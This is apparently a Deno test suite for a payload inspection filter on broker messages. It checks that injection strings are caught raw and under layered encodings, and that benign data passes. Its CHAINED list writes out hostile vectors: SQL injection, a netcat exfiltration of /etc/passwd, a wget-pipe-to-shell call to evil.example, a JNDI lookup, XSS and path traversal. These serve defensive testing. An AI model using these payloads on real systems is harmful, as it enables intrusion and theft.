/** The families of shared/bypass.md, rows B130 to B150, as they are and in every encoding; and what must pass. */
import assert from "node:assert/strict";
import { inspect } from "./inspect.ts";
import { planOf } from "./inspect_fixture.ts";
import { ATTACKS } from "./testdata/attacks.ts";
import { BENIGN, benignBytes } from "./testdata/benign.ts";
import {
  BROKEN,
  DATA_ENCODINGS,
  type Encoding,
  ENCODINGS,
  RARE_ENCODINGS,
  TEXT_ENCODINGS,
} from "./testdata/encodings.ts";

const plan = planOf();
const encoder = new TextEncoder();

function isCaught(payload: Uint8Array | string): boolean {
  return inspect(plan, "payload", payload, "a/b")?.blocking != null;
}

for (const [family, attacks] of Object.entries(ATTACKS)) {
  const category = family.slice(0, family.indexOf(" "));
  Deno.test(`${family}: every string is caught by its own category alone`, () => {
    const patterns = {
      sqli: false,
      "command-injection": false,
      "script-injection": false,
      "path-traversal": false,
    };
    const alone = planOf({ patterns: { ...patterns, [category]: true, "custom-patterns": [] } });
    const missed = attacks.filter((attack) =>
      inspect(alone, "payload", attack, "a/b")?.blocking?.category !== category
    );
    assert.deepEqual(missed, []);
  });
  Deno.test(`${family}: every string is caught in topic, client id, user name, Will and properties (B145)`, () => {
    for (const part of ["topic", "client-id", "username", "will", "user-properties", "response-topic"] as const) {
      const missed = attacks.filter((attack) => inspect(plan, part, `dev/${attack}`, "a/b")?.blocking == null);
      // Behind a slash a drive is no drive and a name begins otherwise: what counts as the beginning of a text does not.
      assert.ok(missed.length <= attacks.length / 12, JSON.stringify(missed));
      assert.deepEqual(attacks.filter((attack) => inspect(plan, part, attack, "a/b")?.blocking == null), []);
    }
  });
}

/** In an encoding of five bytes to a run, fewer are too few to tell from any other word. */
function isTooShort(attack: string, encoding: string): boolean {
  const { length } = encoder.encode(attack);
  // Eight bytes whose digits are all decimal are a number.
  return (/^base64/.test(encoding) && length < 6) || (/^hex/.test(encoding) && length < 8);
}

/** A key and a form's field begin a text, and part it: a statement behind them does not begin it. */
const UNLIKE: Readonly<Record<string, readonly string[]>> = {
  // Written without an `A` behind the `+`, as ASCII never is.
  "utf-7": ["‥/‥/x", "．．／．．／x"],
  "percent form": ["DROP TABLE users", "'-alert(1)-'"],
};

for (const [name, encode] of Object.entries({ ...ENCODINGS, ...BROKEN, ...RARE_ENCODINGS })) {
  Deno.test(`every string is caught in the encoding ${name}`, () => {
    const missed = Object.values(ATTACKS).flat().filter((attack) =>
      !isTooShort(attack, name) && !(UNLIKE[name] ?? []).includes(attack) && !isCaught(encode(encoder.encode(attack)))
    );
    assert.deepEqual(missed, []);
  });
}

/** Strings of these properties: long enough for any encoding, of the same meaning behind and before other text. */
const CHAINED: readonly string[] = [
  "1 UNION ALL SELECT username, password FROM users--",
  "x' or 'a'='a' -- -",
  "'; DROP TABLE users; --",
  "; cat /etc/passwd | nc 10.0.0.1 4444",
  "$(wget http://evil.example/x.sh -O- | sh)",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "../../../../etc/passwd",
];

/** Only these may be put around data: the others are for texts. */
const CARRIERS = ["base64", "base64url", "base64 in json", "base64 wrapped", "hex", "hex 0x"];
/** Bare DEFLATE in bare DEFLATE has neither a header nor text to be known by. */
const HEADERLESS = new Set(["deflate"]);

function chains(length: number): [string, Encoding][] {
  const all = Object.entries(ENCODINGS);
  if (length === 1) return all;
  return chains(length - 1).flatMap(([names, inner]) =>
    all.filter(([name]) => {
      const last = names.slice(names.lastIndexOf(" < ") + 1).replace("< ", "");
      if (last in DATA_ENCODINGS && !CARRIERS.includes(name) && !(name in DATA_ENCODINGS)) return false;
      if (last in DATA_ENCODINGS && /utf-16|cbor chunks|msgpack|^cbor$/.test(name)) return false;
      return !(HEADERLESS.has(name) && last in DATA_ENCODINGS) && !(HEADERLESS.has(last) && name in DATA_ENCODINGS);
    }).map(([name, outer]): [string, Encoding] => [`${names} < ${name}`, (bytes) => outer(inner(bytes))])
  );
}

Deno.test("any two encodings around a string hide it from nothing", () => {
  const missed: string[] = [];
  let tried = 0;
  for (const [names, encode] of chains(2)) {
    for (const attack of CHAINED) {
      tried++;
      if (!isCaught(encode(encoder.encode(attack)))) missed.push(`${names}: ${attack}`);
    }
  }
  assert.deepEqual(missed, []);
  assert.ok(tried > 10_000);
});

Deno.test("three encodings around a string, chosen at random, hide one in five hundred at most", () => {
  let seed = 11;
  const random = (below: number) => ((seed = Math.imul(seed, 1664525) + 1013904223 >>> 0) >>> 8) % below;
  const twos = chains(2);
  const texts = Object.entries(TEXT_ENCODINGS);
  const missed: string[] = [];
  for (let n = 0; n < 6000; n++) {
    const [names, inner] = twos[random(twos.length)]!;
    const outer = names.split(" < ").some((name) => name in DATA_ENCODINGS)
      ? CARRIERS[random(CARRIERS.length)]!
      : texts[random(texts.length)]![0];
    const attack = CHAINED[random(CHAINED.length)]!;
    if (!isCaught(ENCODINGS[outer]!(inner(encoder.encode(attack))))) missed.push(`${names} < ${outer}: ${attack}`);
  }
  assert.ok(missed.length <= 12, missed.join("\n"));
});

Deno.test("one encoding more than max-depth is refused as inspection-budget, not let through", () => {
  for (const name of ["json \\u", "\\x", "percent all", "html hex", "base64", "hex", "gzip"]) {
    const encode = ENCODINGS[name]!;
    let payload: Uint8Array = encoder.encode("; cat /etc/passwd and so on, a text long enough");
    for (let depth = 0; depth < 4; depth++) payload = encode(payload);
    const hit = inspect(plan, "payload", payload, "a/b")?.blocking;
    assert.equal(hit?.category, "inspection-budget", name);
    assert.equal(hit?.pattern, "max-depth", name);
  }
});

for (const [family, payloads] of Object.entries(BENIGN)) {
  Deno.test(`benign ${family}: none is caught, alone, in JSON, in JSON in JSON, in base64, in a URL`, () => {
    const forms: ((text: string) => string)[] = [
      (text) => text,
      (text) => JSON.stringify({ msg: text, ok: true }),
      (text) => JSON.stringify({ msg: JSON.stringify({ a: text }) }),
      (text) => encoder.encode(text).toBase64(),
      (text) => `https://example.com/?q=${encodeURIComponent(text.toWellFormed())}`,
    ];
    const wrong = payloads.flatMap((payload) =>
      forms.map((form) => form(payload)).filter((text) => isCaught(text)).map((text) =>
        `${text}: ${inspect(plan, "payload", text, "a/b")?.blocking?.pattern}`
      )
    );
    assert.deepEqual(wrong, []);
  });
}

Deno.test("benign data: images, CBOR, MessagePack, Protocol Buffers and noise are not caught", () => {
  for (const [n, bytes] of benignBytes().entries()) {
    assert.equal(inspect(plan, "payload", bytes, "a/b")?.blocking ?? null, null, String(n));
  }
});

Deno.test("there are as many vectors as the report says", () => {
  assert.ok(Object.values(ATTACKS).flat().length >= 650);
  assert.ok(Object.values(BENIGN).flat().length + benignBytes().length >= 300);
});
